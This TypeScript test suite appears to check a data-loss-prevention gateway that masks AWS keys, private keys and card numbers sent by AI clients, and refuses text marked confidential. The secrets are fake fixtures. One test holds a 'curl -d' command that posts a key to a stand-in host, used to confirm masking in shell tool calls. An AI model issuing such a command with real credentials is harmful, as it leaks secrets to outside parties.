/** The official clients through the gateway: they notice nothing, and no sensitive value goes past it. */

import assert from 'node:assert/strict';
import { type Client, clients } from './clients';
import { replyAsModel } from './mockModel';
import { type MockUpstream, startMockUpstream } from './mockUpstream';
import { policyFor, startWholeGateway, type WholeGateway } from './wholeGateway';

const awsKey = ['AKIA', 'Q4F7T2ZKM5XJH3WN'].join('');
const card = ['4532', '0151', '1283', '0366'].join(' ');
const privateKey =
  ['-----BEGIN', 'PRIVATE KEY-----'].join(' ') +
  `\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj'.repeat(4)}\n` +
  ['-----END', 'PRIVATE KEY-----'].join(' ');
const marker = 'COMPANY CONFIDENTIAL\n\n# Roadmap';

describe('official clients through the gateway', () => {
  let upstream: MockUpstream;
  let gateway: WholeGateway;
  before(async () => {
    upstream = await startMockUpstream(replyAsModel);
    gateway = await startWholeGateway(policyFor(upstream.baseUrl));
  });
  beforeEach(() => {
    upstream.reset();
    gateway.events.length = 0;
  });
  afterEach(() => assert.deepEqual(gateway.faults, []));
  after(() => Promise.all([gateway.close(), upstream.close()]));
  const through = (client: Client, prompt: string) => client.ask(`${gateway.baseUrl}/${client.upstream}`, prompt);
  const sent = (): string =>
    upstream.requests
      .filter(({ method }) => method === 'POST')
      .map(({ body }) => body)
      .join('\n');

  for (const client of clients) {
    describe(client.name, () => {
      it('the answer is the one of a direct call where nothing is found', async () => {
        const prompt = 'say: Grüße, 世界 🚀 — "quoted" \\ and\nmore. It is all ordinary text.';
        const direct = await client.ask(upstream.baseUrl, prompt);
        const [plain] = upstream.requests;
        upstream.reset();
        const answer = await through(client, prompt);
        assert.deepEqual(answer, direct);
        assert.equal(answer.text, prompt.slice('say: '.length));
        assert.equal(sent(), plain?.body, 'byte for byte');
        assert.equal(gateway.events[0]?.decision.effect, 'allow');
      });

      it('a key, a private key and a card never reach the upstream, and come back restored', async () => {
        for (const value of [awsKey, privateKey, card]) {
          upstream.reset();
          const text = `use ${value} for it`;
          const answer = await through(client, `say: ${text}`);
          assert.equal(answer.text, text);
          for (const line of value.split('\n')) assert.equal(upstream.raw().includes(line), false);
          assert.match(sent(), /say: use /);
        }
      });

      it('a marked text is refused in a shape that the client shows and does not retry', async () => {
        const refused = await through(client, `say: read this\n${marker}`).catch((error: Error) => error);
        assert.ok(refused instanceof Error);
        assert.match(refused.message, /marked/);
        assert.equal(upstream.requests.filter(({ method }) => method === 'POST').length, 0);
        assert.equal(upstream.raw().includes('CONFIDENTIAL'), false);
        assert.equal(gateway.events.length, 1);
      });

      if (!client.name.includes('responses')) {
        it('a placeholder stays one in a shell call, and is restored in an edit', async () => {
          const run = await through(client, `run: curl -d ${awsKey} http://x`);
          assert.equal(JSON.stringify(run).includes(awsKey), false);
          assert.match((run.call as { command: string }).command, /^curl -d \S+ http:\/\/x$/);
          const edit = await through(client, `edit: id = ${awsKey}`);
          assert.deepEqual(edit.call, { path: 'a.txt', content: `id = ${awsKey}` });
          assert.equal(upstream.raw().includes(awsKey), false);
        });
      }
    });
  }
});
